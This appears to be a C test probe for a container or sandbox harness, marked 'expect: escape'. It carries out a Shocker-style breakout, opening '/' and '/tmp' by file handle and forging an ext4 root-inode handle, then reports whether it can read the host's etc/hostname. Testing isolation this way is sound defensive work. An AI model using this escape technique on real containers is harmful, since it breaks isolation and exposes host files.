// expect: escape
// "Shocker"-style escape: name_to_handle_at on "/", then open_by_handle_at with that handle and with a forged ext4 root-inode handle, and read etc/hostname relative to the result.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

struct handle_ { unsigned int bytes; int type; unsigned char f[128]; };

static void report(const char *name, int dirfd) {
    int fd = dirfd < 0 ? -1 : openat(dirfd, "etc/hostname", O_RDONLY);
    char buf[256];
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
    if (fd >= 0) close(fd);
    if (dirfd >= 0) close(dirfd);
    printf("%s: %s\n", name, n >= 0 ? "LEAK" : "blocked");
}

int main(void) {
    int root = open("/", O_RDONLY | O_DIRECTORY);
    struct handle_ h;
    int mount_id = 0;
    memset(&h, 0, sizeof h);
    h.bytes = sizeof h.f;
    int got = (int)syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &h, &mount_id, 0);
    report("open-by-handle-of-root", got == 0 ? (int)syscall(SYS_open_by_handle_at, root, &h, O_RDONLY | O_DIRECTORY) : -1);

    got = (int)syscall(SYS_name_to_handle_at, AT_FDCWD, "/tmp", &h, &mount_id, 0);
    int t = got == 0 ? (int)syscall(SYS_open_by_handle_at, root, &h, O_RDONLY | O_DIRECTORY) : -1;
    report("open-by-handle-of-tmp-dotdot", t < 0 ? -1 : openat(t, "..", O_RDONLY | O_DIRECTORY));
    if (t >= 0) close(t);

    /* ext4/ext2 FILEID_INO32_GEN handle for inode 2 (the filesystem root), generation 0 */
    memset(&h, 0, sizeof h);
    h.bytes = 8;
    h.type = 1;
    unsigned int ino = 2;
    memcpy(h.f, &ino, 4);
    report("open-by-forged-ext4-root-handle", (int)syscall(SYS_open_by_handle_at, root, &h, O_RDONLY | O_DIRECTORY));
    int tmp = open("/tmp", O_RDONLY | O_DIRECTORY);
    report("open-by-forged-handle-tmp-mount", (int)syscall(SYS_open_by_handle_at, tmp, &h, O_RDONLY | O_DIRECTORY));
    return 0;
}
